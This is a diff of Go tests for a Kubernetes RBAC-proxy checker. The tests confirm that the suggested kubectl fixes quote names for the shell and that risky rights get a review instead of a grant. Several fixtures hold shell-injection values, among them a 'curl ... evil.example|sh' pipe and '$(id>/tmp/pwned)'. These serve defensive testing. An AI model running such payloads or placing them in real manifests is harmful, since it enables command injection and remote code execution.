@@ -131,3 +131,101 @@ func TestParseScraper(t *testing.T) {
 		}
 	}
 }
+
+// TestScraperGrant: the fix of ScraperForbidden grants only a right of the workload's own
+// namespace that reads metrics, with every value the template names quoted for the shell; for a
+// sensitive or cross-namespace right it names the annotation to review, and no command.
+func TestScraperGrant(t *testing.T) {
+	d := testDefaults(t)
+	prometheus, err := ParseScraper("system:serviceaccount:monitoring:prometheus")
+	if err != nil {
+		t.Fatal(err)
+	}
+	const review = "review rbac-proxy.io/resource-attributes of Deployment gpu/dcgm: "
+	for _, tc := range []struct {
+		name, key, value string
+		fix, message     string
+	}{{
+		name: "a subresource of the workload's namespace", key: inject.AnnotationResourceAttributes, value: "namespace=gpu,resource=services,subresource=metrics,name=dcgm",
+		fix: "kubectl create role rbac-proxy-scrape-services -n gpu --verb=get --resource=services/metrics --resource-name=dcgm && kubectl create rolebinding rbac-proxy-scrape-services -n gpu --role=rbac-proxy-scrape-services --serviceaccount=monitoring:prometheus",
+	}, {
+		name: "every Secret of the cluster", key: inject.AnnotationResourceAttributes, value: "resource=secrets",
+		fix: review, message: "names no namespace, so the right is one in every namespace, a sensitive right",
+	}, {
+		name: "Secrets of another namespace", key: inject.AnnotationResourceAttributes, value: "resource=secrets,namespace=kube-system",
+		fix: review, message: "names namespace kube-system, not the workload's gpu",
+	}, {
+		name: "Secrets of its own namespace", key: inject.AnnotationResourceAttributes, value: "resource=secrets,namespace=gpu",
+		fix: review, message: "names secrets, which gives more than metrics",
+	}, {
+		name: "exec into Pods", key: inject.AnnotationResourceAttributes, value: "resource=pods,subresource=exec,namespace=gpu",
+		fix: review, message: "names pods/exec, which gives more than metrics",
+	}, {
+		name: "a proxy to nodes", key: inject.AnnotationResourceAttributes, value: "resource=nodes,subresource=proxy",
+		fix: review,
+	}, {
+		name: "a command in a resource name", key: inject.AnnotationResourceAttributes, value: "resource=pods,namespace=gpu,name=x;curl${IFS}-s${IFS}evil.example|sh;#",
+		fix: review, message: "names no resource as the API server spells one",
+	}, {
+		name: "a command substitution as the resource", key: inject.AnnotationResourceAttributes, value: "resource=$(id>/tmp/pwned),namespace=gpu",
+		fix: review, message: "names no resource as the API server spells one",
+	}, {
+		name: "backticks in the namespace", key: inject.AnnotationResourceAttributes, value: "resource=pods,namespace=a`id`",
+		fix: review, message: "not the workload's gpu",
+	}, {
+		name: "the default path", key: inject.AnnotationAllowPaths, value: "/metrics",
+		fix: "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get --non-resource-url=/metrics && kubectl create clusterrolebinding rbac-proxy-metrics-reader-monitoring-prometheus --clusterrole=rbac-proxy-metrics-reader --serviceaccount=monitoring:prometheus",
+	}, {
+		name: "a path with a command in it", key: inject.AnnotationAllowPaths, value: "/metrics;$(id)",
+		fix: "kubectl create clusterrole rbac-proxy-metrics-reader --verb=get '--non-resource-url=/metrics;$(id)' && kubectl create clusterrolebinding",
+	}, {
+		name: "the API server's logs", key: inject.AnnotationAllowPaths, value: "/logs/kube-apiserver.log",
+		fix: "review rbac-proxy.io/allow-paths of Deployment gpu/dcgm: ", message: "is also a path of the API server's, a sensitive right",
+	}} {
+		t.Run(tc.name, func(t *testing.T) {
+			dep, rs := deployment("dcgm", appTemplate(nil, map[string]string{inject.AnnotationInject: "true", tc.key: tc.value}))
+			s := snapshotOf(namespace(nil), dep, rs, podOf(t, d, dep, rs, "a", true, ""), certificate("dcgm", cmmeta.ConditionTrue, "Ready"))
+			r := (&Checker{Defaults: d, Scrapers: []Scraper{prometheus}, Reviews: reviews(func(s authorizationv1.SubjectAccessReviewSpec) (bool, error) {
+				return s.User != prometheus.User, nil
+			})}).Check(context.Background(), s)
+			if got := findingKeys(r); !slices.Equal(got, []string{"ScraperForbidden ServiceAccount/prometheus"}) {
+				t.Fatalf("findings %v: %+v", got, r)
+			}
+			f := r.Findings[0]
+			if !strings.HasPrefix(f.Fix, tc.fix) || !strings.Contains(f.Message, tc.message) {
+				t.Errorf("fix %q\nwant it to start %q; message %q, want %q in it", f.Fix, tc.fix, f.Message, tc.message)
+			}
+			if strings.HasPrefix(tc.fix, "review") && strings.Contains(f.Fix, "kubectl") {
+				t.Errorf("fix %q grants what the template names", f.Fix)
+			}
+		})
+	}
+}
+
+// TestFixesQuoted: every fix line built from an object's name quotes it for the shell.
+func TestFixesQuoted(t *testing.T) {
+	d := testDefaults(t)
+	tmpl := appTemplate(nil, map[string]string{inject.AnnotationInject: "true", inject.AnnotationDNSNames: "dcgm.gpu.svc"})
+	tmpl.Spec.ServiceAccountName = "sa;id"
+	dep, rs := deployment("x$(id)", tmpl)
+	exporter := appTemplate(nil, nil)
+	exporter.Spec.Containers[0].Image = "nvcr.io/nvidia/k8s/dcgm-exporter:4.1"
+	plain, plainRS := deployment("y`id`", exporter)
+	s := snapshotOf(namespace(nil), dep, rs, podOf(t, d, dep, rs, "a", false, ""), podOf(t, d, dep, rs, "b", true, ""), plain, plainRS, podOf(t, d, plain, plainRS, "a", false, ""))
+	r := (&Checker{Defaults: d, Reviews: reviews(func(authorizationv1.SubjectAccessReviewSpec) (bool, error) { return false, nil })}).Check(context.Background(), s)
+	want := map[Code]string{
+		CodeNotInjected:         "kubectl rollout restart 'deployment/x$(id)' -n gpu",
+		CodeProxyCannotReview:   "kubectl create clusterrolebinding 'rbac-proxy-gpu-sa;id' --clusterrole=system:auth-delegator '--serviceaccount=gpu:sa;id'",
+		CodeCertificateNotReady: "kubectl describe certificate 'rbac-proxy-deployment-x$(id)' -n gpu (",
+		CodeUnprotectedExporter: `kubectl label namespace gpu rbac-proxy.io/inject=enabled, or set rbac-proxy.io/inject: "true" in spec.template.metadata.annotations; then kubectl rollout restart 'deployment/y` + "`id`' -n gpu",
+	}
+	for _, f := range r.Findings {
+		if w, ok := want[f.Code]; !ok || !strings.HasPrefix(f.Fix, w) {
+			t.Errorf("%s fix %q, want it to start %q", f.Code, f.Fix, w)
+		}
+		delete(want, f.Code)
+	}
+	if len(want) > 0 {
+		t.Errorf("no findings %v: %+v", want, r.Findings)
+	}
+}
